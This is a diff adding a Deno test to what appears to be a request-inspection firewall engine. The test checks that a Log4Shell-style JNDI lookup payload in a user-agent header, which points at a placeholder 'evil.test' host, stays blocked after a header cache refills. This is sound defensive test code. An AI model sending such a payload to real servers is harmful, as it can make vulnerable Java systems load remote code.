@@ -88,3 +88,34 @@ Deno.test("inspect() never throws on binary and malformed bodies", () => {
     );
   }
 });
+
+Deno.test("inspect() finds an attack in a header on every request, through a full header memo", () => {
+  const evil = "Mozilla/5.0 ${jndi:ldap://evil.test/a}";
+  const attacked = (): EngineRequest => ({
+    method: "GET",
+    path: "/",
+    query: "",
+    headers: [["user-agent", evil]],
+  });
+  const first = inspect(attacked(), { level: "balanced" });
+  assert.equal(first.blocking?.location, "header:user-agent");
+  const again = inspect(attacked(), { level: "balanced" });
+  assert.deepEqual(again.blocking, first.blocking);
+  // More distinct values than the memo keeps: it empties and refills, never forgets an attack.
+  for (let i = 0; i < 5000; i++) {
+    const r = inspect(get("", []), { level: "balanced" });
+    assert.equal(r.blocking, undefined);
+    const other = inspect(
+      { method: "GET", path: "/", query: "", headers: [["user-agent", `${UA} b/${i}`]] },
+      { level: "balanced" },
+    );
+    assert.equal(other.findings.length, 0);
+  }
+  assert.equal(
+    inspect(attacked(), { level: "balanced" }).blocking?.class,
+    first.blocking?.class,
+  );
+  // A benign agent's verdict does not leak findings into the next request's list.
+  const benign = inspect(get("q=shoes"), { level: "balanced" });
+  assert.equal(benign.findings.length, 0);
+});
